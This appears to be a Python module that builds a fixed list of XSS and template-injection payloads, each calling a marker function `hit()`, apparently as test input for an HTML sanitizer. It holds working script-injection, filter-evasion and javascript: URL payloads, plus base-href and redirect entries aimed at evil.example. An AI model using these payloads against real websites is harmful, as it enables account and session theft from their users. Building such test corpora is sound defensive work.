"""Ways to make a page run what somebody wrote; each calls `hit` where it succeeds."""

from collections.abc import Iterator
from itertools import product
from typing import Final

RUN: Final = "hit()"
# What has to be ended first for markup to begin: text, attributes, elements, comments, our pages'.
OUT_OF: Final = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>",
    '"/>', "</bdi></a>", "</select>")  # fmt: skip
ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<math><a xlink:href=javascript:{RUN}>m</a></math>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)
ATTRIBUTES: Final = (
    f'" onmouseover={RUN} x="', f"' onfocus={RUN} autofocus x='", f'" autofocus onfocus="{RUN}',
    f'"style="animation-name:x"onanimationstart="{RUN}', f"x onerror={RUN}", f"`onload={RUN}`",
)  # fmt: skip
ADDRESSES: Final = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}", f"javascript://example.com/%0a{RUN}", f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"//evil.example/{RUN}",
    f"https://example.com/\" onmouseover=\"{RUN}", f"https://example.com/'><script>{RUN}</script>",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"blob:javascript:{RUN}",
)  # fmt: skip
TEMPLATES: Final = (
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "{{ ''.__class__ }}", "%(x)s", "{0.__class__}",
    "<%= 7*7 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
)  # fmt: skip
DISGUISED: Final = (
    f"＜script＞{RUN}＜/script＞", f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<\u202escript>{RUN}</script>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>", f"<svg/onload={RUN}//", f"<<script>{RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a\x0chref=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x",
    f"<form id=x></form><button form=x formaction=javascript:{RUN}>x",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<link rel=import href=data:,{RUN}>",
    f"<style>@import 'javascript:{RUN}'</style>", f"<p style=background:url(javascript:{RUN})>",
    f"<template><script>{RUN}</script></template>", f"<marquee onstart={RUN}>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, the same each time, each once."""
    for first, (out, element) in enumerate(product(OUT_OF, ELEMENTS)):
        if first % 3 != 1 or not out:
            yield out + element
    yield from (*ATTRIBUTES, *ADDRESSES, *TEMPLATES, *DISGUISED)
